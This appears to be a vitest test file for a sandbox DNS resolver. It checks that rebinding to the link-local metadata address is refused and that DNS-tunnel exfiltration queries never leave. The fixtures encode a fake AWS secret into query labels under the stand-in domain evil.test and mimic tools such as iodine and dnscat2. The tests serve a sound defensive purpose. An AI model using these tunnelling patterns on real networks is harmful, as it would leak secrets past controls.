import { Resolver } from 'node:dns/promises';
import { describe, expect, test } from 'vitest';
import { createResolver } from '../resolve/resolver.ts';
import {
  a,
  aaaa,
  type Behaviour,
  cname,
  replyTo,
  type RunningNameServer,
  startNameServer,
} from '../resolve/testing/name-server.ts';
import type { Refused, Resolution } from '../types.ts';
import type { LookupRecord } from './find.ts';
import type { NameTable } from './name-table.ts';
import { contextWith } from './testing/context.ts';
import { startService } from './testing/service.ts';

/**
 * The whole way: a client, the resolver of the box, the stub resolver of the host, and a name server of the test's own.
 */
interface Chain extends AsyncDisposable {
  readonly client: Resolver;
  readonly names: NameTable;
  readonly upstream: RunningNameServer;
  readonly records: readonly LookupRecord[];
}

interface ChainOptions {
  readonly kind?: 'fake' | 'real';
  readonly refusedNames?: 'nxdomain' | 'explain';
  vet?(name: string, resolution: Resolution): Resolution | Refused;
}

async function startChain(
  behave: Behaviour,
  { kind = 'real', refusedNames = 'nxdomain', vet = (_, found) => found }: ChainOptions = {},
): Promise<Chain> {
  const upstream = await startNameServer(behave);
  const resolver = createResolver({
    servers: [upstream.server],
    hostsFile: '/nonexistent',
    resolvConf: '/nonexistent',
    budget: 800,
  });
  const context = contextWith({ refusedNames, mode: kind === 'fake' ? { kind } : { kind, resolver, vet } });
  const records: LookupRecord[] = [];
  const service = await startService({ context, record: (lookup) => records.push(lookup) });
  const client = new Resolver({ timeout: 2000, tries: 1 });
  client.setServers([`127.0.0.1:${service.port}`]);
  const dispose = async (): Promise<void> => {
    await service[Symbol.asyncDispose]();
    await upstream[Symbol.asyncDispose]();
  };
  return { client, names: context.names, upstream, records, [Symbol.asyncDispose]: dispose };
}

const v6 = [0x2001, 0xdb8, 0, 0, 0, 0, 0, 1] as const;
const honest: Behaviour = (asked) => [
  replyTo(asked, {
    records: asked.type === 'A' ? [cname('cdn.test'), a('192.0.2.1', { owner: 'cdn.test' })] : [aaaa(v6)],
  }),
];
const codeOf = async (work: Promise<unknown>): Promise<string> =>
  await work.then(
    () => 'found',
    (error: NodeJS.ErrnoException) => error.code ?? 'no code',
  );

describe('real look-ups', () => {
  test('give the real addresses, and remember their names', async () => {
    await using chain = await startChain(honest);
    expect(await chain.client.resolve4('www.example.org')).toEqual(['192.0.2.1']);
    expect(await chain.client.resolve6('www.example.org')).toEqual(['2001:db8::1']);
    expect([chain.names.namesOf('192.0.2.1'), chain.names.namesOf('2001:db8::1')]).toEqual([
      ['www.example.org'],
      ['www.example.org'],
    ]);
    expect(chain.upstream.asked.map(({ type, name }) => `${type} ${name}`).sort()).toEqual([
      'A www.example.org',
      'AAAA www.example.org',
    ]);
  });

  test('a missing name, a failing server, and a silent one', async () => {
    await using missing = await startChain((asked) => [replyTo(asked, { rcode: 3 })]);
    expect(await codeOf(missing.client.resolve4('a.example.org'))).toBe('ENOTFOUND');
    await using broken = await startChain((asked) => [replyTo(asked, { rcode: 2 })]);
    expect(await codeOf(broken.client.resolve4('a.example.org'))).toBe('ESERVFAIL');
    await using silent = await startChain(() => []);
    expect(await codeOf(silent.client.resolve4('a.example.org'))).toBe('ESERVFAIL');
    expect([missing, broken, silent].map(({ records }) => records[0])).toMatchObject([
      { outcome: 'no-such-name', refusal: { code: 'name-not-found' } },
      { outcome: 'failed', refusal: { code: 'resolver-failed' } },
      { outcome: 'failed', refusal: { code: 'resolver-failed' } },
    ]);
  });

  test('give no address that the vetting refuses, even if the name changes', async () => {
    let turn = 0;
    const rebinding: Behaviour = (asked) => {
      turn += 1;
      return [
        replyTo(asked, {
          records: asked.type === 'A' ? [a(turn <= 2 ? '192.0.2.1' : '169.254.169.254', { ttl: 0 })] : [],
        }),
      ];
    };
    const refusal: Refused = {
      kind: 'refused',
      refusal: { code: 'special-address', message: 'link-local', remedy: 'none' },
    };
    await using chain = await startChain(rebinding, {
      vet: (_, found) => (found.addresses.some((address) => address.startsWith('169.254.')) ? refusal : found),
    });
    expect(await codeOf(chain.client.resolve4('a.example.org'))).toBe('found');
    expect(await codeOf(chain.client.resolve4('a.example.org'))).toBe('ENOTFOUND');
    expect(chain.names.namesOf('169.254.169.254')).toEqual([]);
    expect(chain.records[1]).toMatchObject({
      outcome: 'refused',
      refusal: { code: 'special-address' },
      verdict: { decision: 'allow' },
    });
  });

  test('cannot borrow the fake address of another name', async () => {
    await using chain = await startChain(
      (asked) => [replyTo(asked, { records: asked.type === 'A' ? [a('198.18.0.2'), a('198.19.0.1')] : [] })],
      { refusedNames: 'explain' },
    );
    expect(await chain.client.resolve4('secret.test')).toEqual(['198.18.0.2']);
    expect(await codeOf(chain.client.resolve4('a.example.org'))).toBe('ENODATA');
    expect(chain.names.namesOf('198.18.0.2')).toEqual(['secret.test']);
  });
});

/** What tunnels through DNS put into questions (iodine, dnscat2, DNSExfiltrator and hand-made ones). */
const secret = Buffer.from('AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG');
const tunnels: readonly (readonly [
  string,
  string,
  'A' | 'AAAA' | 'TXT' | 'MX' | 'CNAME' | 'NS' | 'SRV' | 'ANY' | 'CAA' | 'NAPTR' | 'SOA',
])[] = [
  ['hexadecimal labels', `${secret.toString('hex').slice(0, 60)}.evil.test`, 'A'],
  ['base64url labels', `${secret.toString('base64url')}.evil.test`, 'A'],
  ['labels of 63 letters', `${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(50)}.evil.test`, 'AAAA'],
  ['one letter for each label', `${[...'secret'].join('.')}.evil.test`, 'A'],
  ['TXT for the way back', 'x1.evil.test', 'TXT'],
  ['MX for the way back', 'x2.evil.test', 'MX'],
  ['CNAME for the way back', 'x3.evil.test', 'CNAME'],
  ['SRV for the way back', '_x._tcp.evil.test', 'SRV'],
  ['NS, to be delegated to', 'x4.evil.test', 'NS'],
  ['SOA', 'x5.evil.test', 'SOA'],
  ['CAA', 'x6.evil.test', 'CAA'],
  ['NAPTR', 'x7.evil.test', 'NAPTR'],
  ['ANY', 'x8.evil.test', 'ANY'],
  ['TXT below an allowed name', `${secret.toString('hex').slice(0, 60)}.example.org`, 'TXT'],
  ['MX below an allowed name', 'x9.example.org', 'MX'],
  ['NS below an allowed name', 'x10.example.org', 'NS'],
  ['a reverse name', `${secret.toString('hex').slice(0, 20)}.in-addr.arpa`, 'TXT'],
  ['a name that looks like an allowed one', 'example.com.evil.test', 'A'],
  ['a name that ends like an allowed one', 'notexample.com', 'A'],
  ['a denied name below an allowed one', 'bad.example.org', 'A'],
  ['a name that needs an approval', 'slow.example.org', 'A'],
];

describe.each(['fake', 'real'] as const)('no query leaves with %s addresses', (kind) => {
  test.each(tunnels)('%s', async (_, name, type) => {
    await using chain = await startChain(honest, { kind });
    expect(['ENOTFOUND', 'ENODATA']).toContain(await codeOf(chain.client.resolve(name, type)));
    expect(chain.upstream.asked).toEqual([]);
    expect(chain.records).toMatchObject([{ type, outcome: expect.stringMatching(/^(?:refused|no-data)$/) }]);
  });
});

test('with fake addresses not even an allowed name leaves', async () => {
  await using chain = await startChain(honest, { kind: 'fake' });
  for (let turn = 0; turn < 20; turn += 1)
    expect(await codeOf(chain.client.resolve4(`${secret.toString('hex').slice(turn, turn + 20)}.example.org`))).toBe(
      'found',
    );
  expect(chain.upstream.asked).toEqual([]);
});
